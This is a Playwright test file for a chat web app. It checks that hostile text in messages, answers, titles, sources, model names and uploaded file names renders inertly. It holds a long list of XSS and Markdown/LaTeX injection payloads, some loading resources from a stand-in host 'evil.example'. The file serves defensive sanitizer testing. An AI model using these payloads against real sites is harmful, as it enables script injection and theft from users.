"""Text written by others stays text: hostile strings in every place that shows text.

None of them runs, opens a dialog or loads anything; `Site.check` verifies that no request leaves the origin.
"""

# Scripts and strings read better in one line.
# ruff: noqa: E501

from typing import Any

import pytest
from browser import ANSWER, QUESTION, Site, browser, browser_test, need_marked, site
from fake_ollama import Script, answer, echo

pytest.importorskip("playwright")
from playwright.async_api import Page, expect

__all__ = ["browser", "site"]  # the fixtures
pytestmark = [pytest.mark.browser, browser_test]

HIT = "window.__hit=1"
EVIL = "https://evil.example"
HOSTILE = [
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT>",
    f"<script src={EVIL}/x.js></script>",
    f"</script><script>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<script type=module>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f'<img src="{EVIL}/p.png">',
    f"<img srcset='{EVIL}/p.png 2x'>",
    f'"><img src=x onerror={HIT}>',
    f"'><img src=x onerror='{HIT}'>",
    f"<img/src=x/onerror={HIT}>",
    f"<image src=x onerror={HIT}>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{HIT}'><text y=20>x</text></a></svg>",
    f"<svg><use href='{EVIL}/x.svg#a'/></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{HIT}</script>'></foreignObject></svg>",
    f"<math><mtext><script>{HIT}</script></mtext></math>",
    f"<math href='javascript:{HIT}'>x</math>",
    f"<iframe src='javascript:{HIT}'></iframe>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
    f"<object data='javascript:{HIT}'></object>",
    f"<embed src='javascript:{HIT}'>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<video src=x onerror={HIT}></video>",
    f"<video poster={EVIL}/p.png></video>",
    f"<audio src={EVIL}/a.mp3 autoplay onerror={HIT}>",
    f"<source src=x onerror={HIT}>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<style>@import '{EVIL}/x.css';</style>",
    f"<style>*{{background:url({EVIL}/p.png)}}</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<link rel=prefetch href={EVIL}>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"<form action={EVIL}><button autofocus>x</button></form>",
    f"<div style='background:url({EVIL}/p.png)'>x</div>",
    f"<p onmouseover={HIT}>hover</p>",
    f"<a href='javascript:{HIT}'>click</a>",
    f"<template><script>{HIT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<textarea></textarea><script>{HIT}</script>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<![CDATA[<script>{HIT}</script>]]>",
    f"<?xml version='1.0'?><script>{HIT}</script>",
    f"[click](javascript:{HIT})",
    f"[click](JAVASCRIPT:{HIT})",
    f"[click](java&#115;cript:{HIT})",
    f"[click](javascript&colon;{HIT})",
    f"[click](&#x6A;avascript:{HIT})",
    f"[click](<java\tscript:{HIT}>)",
    f"[click](%6aavascript:{HIT})",
    f"[click](data:text/html,<script>{HIT}</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==)",
    f"[click](vbscript:{HIT})",
    f"[click](http://x.org/\" onmouseover=\"{HIT})",
    f'[click](http://x.org "\" onmouseover={HIT} \"")',
    f"<javascript:{HIT}>",
    f"[r][1]\n\n[1]: javascript:{HIT}",
    f"![x]({EVIL}/p.png)",
    f"![x](javascript:{HIT})",
    f"![x](data:image/svg+xml,<svg onload={HIT}>)",
    f"![\" onerror=\"{HIT}](x)",
    f"![x][i]\n\n[i]: {EVIL}/p.png",
    f"[![x]({EVIL}/p.png)](javascript:{HIT})",
    f"```\"><script>{HIT}</script>\ncode\n```",
    f"```html\n<script>{HIT}</script>\n```",
    f"`<img src=x onerror={HIT}>`",
    f"# <img src=x onerror={HIT}>",
    f"| <script>{HIT}</script> | <img src=x onerror={HIT}> |\n|-|-|\n| <svg onload={HIT}> | {EVIL}/p.png |",
    f"> <img src=x onerror={HIT}>\n> - <svg onload={HIT}>",
    f"1. <script>{HIT}\n2. </script>",
    f"**<img src=x onerror={HIT}>**",
    f"\\<script>{HIT}\\</script>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;img src=x onerror={HIT}&#62;",
    f"\u202e<script>{HIT}</script>\u2028<img src=x onerror={HIT}>",
    f"${{{HIT}}} {{{{constructor.constructor('{HIT}')()}}}}",
    f"$\\href{{javascript:{HIT}}}{{click}}$ and \\(\\url{{javascript:{HIT}}}\\)",
    f"\\[ \\includegraphics{{{EVIL}/p.png}} \\]",
    f"$$\\text{{<img src=x onerror={HIT}>}} \\unicode{{x3c}}script$$",
    f"$$\\style{{background:url({EVIL}/p.png)}}{{x}} \\class{{send}}{{y}} \\htmlId{{log}}{{z}}$$",
    f"$$\\color{{red;background:url({EVIL}/p.png)}}{{x}}$$ $\\rule{{9999em}}{{9999em}}$",
    f"$x <script>{HIT}</script> y$",
    "\\[ \\def\\a{\\a\\a}\\a \\]",
    f"```js\n`${{{HIT}}}`; // </code><script>{HIT}</script>\n```",
    f"```html\n<script>{HIT}</script><img src=x onerror={HIT}>\n```",
    f"```php\n<?php echo '<script>{HIT}</script>'; ?><script>{HIT}</script>\n```",
    f"[[[[[(((({HIT}<script>![](<{EVIL}/p.png",
]  # fmt: skip
SYNTAX = [  # for answers: what Markdown is read beside that of CommonMark
    f"<b onmouseover={HIT}>x</b>",
    f"<KBD STYLE='x' onclick={HIT}>x</KBD><sub onclick='{HIT}'>y</sub>",
    f"<br onload={HIT}><br/onload={HIT}>",
    f"<b title='>' onmouseover={HIT}><script>{HIT}</script></b>",
    f"<ul onclick={HIT}><li><img src=x onerror={HIT}></li></ul>",
    f"<details open ontoggle={HIT}><summary onclick={HIT}>x</summary>\n\n<script>{HIT}</script>\n\n</details>",
    f"<details><summary><img src=x onerror={HIT}></summary>[x](javascript:{HIT})",
    f"<details>\n<summary>\n\n<svg onload={HIT}>\n\n<details><iframe src=javascript:{HIT}>",
    f"<!-- --><script>{HIT}</script>",
    f"<!-- x --!><img src=x onerror={HIT}>",
    f"<!--\n\n<img src=x onerror={HIT}>",
    f"[click](&Tab;javascript&colon;{HIT})",
    f"[click](java&NewLine;script&colon;{HIT})",
    f"[click](&NonBreakingSpace;javascript&colon;{HIT})",
    f"&lt;img src=x onerror={HIT}&gt;",
    f"&LT;script&GT;{HIT}&lt;&sol;script&gt;",
    f"x[^__proto__] y[^constructor]\n\n[^__proto__]: <img src=x onerror={HIT}>\n[^constructor]: [x](javascript:{HIT})",
    f'x[^"onclick="{HIT}]\n\n[^"onclick="{HIT}]: x',
    f"[^1]: <script>{HIT}</script>\n[^1]: again[^1]",
    f"{EVIL}/\"onmouseover=\"{HIT} www.evil.example/'><script>{HIT}</script>",
    f"```markdown\n```html\n<script>{HIT}</script>\n```\n```\n<script>{HIT}</script>",
    f"C:\\<script>{HIT}</script>\\*<img src=x onerror={HIT}>",
    f"**<b>「<img src=x onerror={HIT}>」</b>**~~<script>{HIT}</script>~~",
    f"`</code><script>{HIT}</script>` ش-<script>{HIT}</script>-1",
]  # fmt: skip

SCHEMES = """
() => {
  const roots = [document, document.querySelector("chat-interface").shadowRoot];
  const links = roots.flatMap((root) => [...root.querySelectorAll("a[href]:not(#skip, [href='docs'])")]);
  return links.map((link) => [link.protocol, link.target, link.rel, link.className, link.dataset.session]);
}
"""
MADE = """
() => {
  const places = ["sessions", "document", "documents-list", "confirm-text", "ollama", "problem"];
  const roots = [document.querySelector("chat-interface").shadowRoot, ...places.map((id) => document.getElementById(id))];
  const made = roots.flatMap((root) => [...root.querySelectorAll("*")]);
  const tags = new Set(made.map(({ localName }) => localName));
  const handlers = made.flatMap(({ attributes }) => [...attributes]).filter(({ name }) => /^on|^style$|^srcdoc$/.test(name) );
  return [[...tags], handlers.filter(({ ownerElement, name }) => !(name === "style" && (ownerElement.part.contains("input") || ownerElement.namespaceURI.endsWith("/MathML")))).length];
}
"""
FORBIDDEN = {
    "script",
    "iframe",
    "object",
    "embed",
    "link",
    "style",
    "meta",
    "base",
    "video",
    "audio",
    "image",
    "use",
    "annotation-xml",
    "maction",
    "marquee",
}


async def harmless(page: Page, site: Site) -> None:
    """Check that nothing ran, even after everything that can be has been opened, hovered and focused."""
    await page.evaluate(
        """() => {
          const root = document.querySelector("chat-interface").shadowRoot;
          for (const element of root.querySelectorAll("article, article *")) {
            for (const type of ["mouseover", "focus", "toggle", "load", "error"]) element.dispatchEvent(new Event(type));
          }
        }"""
    )
    await page.evaluate(
        "() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))"
    )
    assert await page.evaluate("window.__hit") is None
    assert site.dialogs == []
    tags, handlers = await page.evaluate(MADE)
    assert FORBIDDEN.isdisjoint(tags)
    assert handlers == 0
    for protocol, target, rel, kind, session in await page.evaluate(SCHEMES):
        if session or kind == "reference":
            continue
        assert protocol in ("http:", "https:", "mailto:")
        assert (target, "noopener" in rel) == ("_blank", True)
    site.check()


async def test_the_strings_are_many_and_distinct() -> None:
    assert len(set(HOSTILE)) >= 60


async def test_hostile_messages_answers_and_titles(site: Site) -> None:
    """Streamed, all in one message, and read from the server, one message each."""
    need_marked()
    site.fake.script = echo
    session = await site.new_session(title=HOSTILE[0])
    for text in HOSTILE[:40]:
        await site.client.ask(session, text)
    page = await site.open(f"/?session={session}")
    await expect(page.locator(QUESTION)).to_have_text(
        [text.strip() for text in HOSTILE[:40]], use_inner_text=False
    )
    await expect(page.locator(ANSWER)).to_have_count(40)
    await harmless(page, site)
    await site.ask(page, "\n\n".join([*HOSTILE, *SYNTAX]))
    await expect(page.get_by_role("button", name="Regenerate")).to_be_visible()
    await harmless(page, site)


@pytest.mark.parametrize("part", [0, 1])
async def test_hostile_answers_cut_at_every_character(site: Site, part: int) -> None:
    need_marked()
    page = await site.open()
    await page.evaluate(
        """async (texts) => {
          const { StreamingMarkdown } = await import("./static/markdown/streaming-markdown.js");
          const { loadLexer } = await import("./static/markdown/lexer.js");
          const { labels } = await import("./static/texts/en.js");
          const { more } = await import("./static/markdown/needs.js");
          await more.load();
          const newLexer = await loadLexer();
          const root = document.querySelector("chat-interface").shadowRoot;
          const streams = texts.map((text) => {
            const box = root.appendChild(document.createElement("article"));
            return [new StreamingMarkdown(box, newLexer(), { labels }), [...text]];
          });
          const due = [];
          const frame = window.requestAnimationFrame;
          window.requestAnimationFrame = (draw) => due.push(draw);
          for (let at = 0; streams.some(([, text]) => at < text.length); at += 1) {
            for (const [stream, text] of streams) if (at < text.length) stream.append(text[at]);
            for (const draw of due.splice(0)) draw();
          }
          window.requestAnimationFrame = frame;
          for (const [stream] of streams) stream.finish();
        }""",
        [*HOSTILE, *SYNTAX][part::2],
    )
    await harmless(page, site)


async def test_hostile_titles(site: Site) -> None:
    for text in HOSTILE:
        await site.new_session(title=text)
    page = await site.open()
    await page.get_by_role("button", name="Show more").click()
    await expect(page.locator("#sessions a")).to_have_count(len(HOSTILE))
    await page.locator("#sessions a").first.click()
    await page.locator("#sessions li").first.hover()
    await page.locator("#sessions li").first.get_by_role("button", name="Delete").click()
    await expect(page.locator("#confirm-text")).to_contain_text("[[[[[")
    await harmless(page, site)


async def test_hostile_sources_warnings_errors_models_and_thoughts(site: Site) -> None:
    session = await site.new_session()
    sources = [
        {"documentId": n, "title": text, "chunk": n, "snippet": text, "score": 1.0, "page": None, "heading": text,
         "found": [[0, 2], [-5, 1], [1, 9], [9, 4], [9, 1e9], [2, 3]], "cited": n % 2 == 0}
        for n, text in enumerate(HOSTILE)
    ]  # fmt: skip
    message: dict[str, Any] = {
        "id": 1, "sessionId": session, "role": "assistant", "status": "failed", "cursor": None, "documentId": None,
        "content": " ".join(f"[{number}]" for number in range(1, len(HOSTILE) + 1)), "thinking": "\n".join(HOSTILE),
        "model": HOSTILE[6], "modelReason": HOSTILE[7], "sources": sources, "finishReason": None, "usage": None,
        "warnings": [{"code": text, "message": text} for text in HOSTILE], "imageCount": 0, "clientMessageId": None,
        "error": {"error": "\n".join(HOSTILE), "code": "x", "retryable": True}, "createdAt": "", "updatedAt": "",
    }  # fmt: skip
    context = await site.context()
    await context.route(
        "**/messages", lambda route: route.fulfill(json={"messages": [message], "next": None})
    )
    await context.route("**/api/models", lambda route: route.fulfill(json=hostile_models()))
    page = await site.open(f"/?session={session}", context)
    chips = page.locator("chat-interface .chip")
    await expect(chips).to_have_count(len(HOSTILE))
    await page.evaluate(
        "() => { const root = document.querySelector('chat-interface').shadowRoot;"
        "for (const chip of root.querySelectorAll('.chip')) chip.click();"
        "for (const details of root.querySelectorAll('details')) details.open = true; }"
    )
    await expect(page.locator("chat-interface .snippet")).to_have_text(HOSTILE[-1])
    await harmless(page, site)


def hostile_models() -> dict[str, Any]:
    models = [{"name": text, "capabilities": ["completion"]} for text in HOSTILE]
    return {"models": models, "selected": {"model": HOSTILE[0], "reason": HOSTILE[1]}}


async def test_hostile_documents(site: Site) -> None:
    """Titles in the list and below the field, text in the sources of an answer."""
    need_marked()
    site.fake.script = Script(answer(" ".join(f"[{number}]" for number in range(1, 6))))
    await site.start()
    for number, text in enumerate(HOSTILE):
        given = {"title": text, "text": f"passage {number} {text}"}
        await site.client.call("POST", "/api/documents", status=201, json=given)
    everything = {"title": HOSTILE[6], "text": "\n\n".join(f"passage {text}" for text in HOSTILE)}
    await site.client.call("POST", "/api/documents", status=201, json=everything)
    page = await site.open()
    await page.locator("#documents-open").click()
    await page.locator("#documents").get_by_role("button", name="Show more").click()
    await expect(page.locator("#documents .name")).to_have_count(len(HOSTILE) + 1)
    await page.locator("#documents li").nth(1).get_by_role("button").last.click()
    await expect(page.locator("#confirm-text")).to_contain_text(HOSTILE[-1])
    await page.locator("#confirm").get_by_role("button", name="Cancel").click()
    await harmless(page, site)
    await page.locator("#documents .choose").first.click()
    await expect(page.locator("#document .name")).to_have_text(HOSTILE[6])
    await page.keyboard.press("Escape")
    await site.ask(page, "passage")
    chips = page.locator("chat-interface .chip")
    await expect(chips).not_to_have_count(0)
    for chip in await chips.all():
        await chip.click()
        await expect(page.locator("chat-interface .snippet")).to_contain_text("passage")
    await page.reload()
    await expect(page.locator("#document .name")).to_have_text(HOSTILE[6])
    await harmless(page, site)


async def test_hostile_upload_names(site: Site) -> None:
    """During the upload, in a refusal, and as the titles of documents."""
    names = HOSTILE[::8]  # a process reads each
    page = await site.open()
    await page.evaluate(
        """(names) => {
          window.statuses = new Set();
          const status = document.querySelector("chat-interface").shadowRoot.querySelector(".notice");
          new MutationObserver(() => window.statuses.add(status.textContent)).observe(status, { childList: true });
          const input = document.getElementById("documents-input");
          const held = new DataTransfer();
          for (const name of names) held.items.add(new File([`words of ${name}`], `${name}.txt`));
          held.items.add(new File(["x"], `${names[0]}.exe`));
          input.files = held.files;
          input.dispatchEvent(new Event("change"));
        }""",
        names,
    )
    await expect(page.locator("chat-interface .notice")).to_contain_text("are not read", timeout=30_000)
    assert await page.evaluate("window.statuses.size") >= len(names)
    await page.locator("#documents-open").click()
    await expect(page.locator("#documents .name")).to_have_count(len(names))
    await harmless(page, site)


async def test_hostile_image_names(site: Site) -> None:
    names = HOSTILE[::3]  # a message takes 32 images
    page = await site.open()
    await page.evaluate(
        """(names) => {
          const input = document.querySelector("chat-interface").shadowRoot.querySelector("input[type=file]");
          const held = new DataTransfer();
          for (const name of names) held.items.add(new File(["x"], name, { type: "image/png" }));
          input.files = held.files;
          input.dispatchEvent(new Event("change"));
        }""",
        names,
    )
    await expect(page.locator("chat-interface .preview img")).to_have_count(len(names))
    await harmless(page, site)
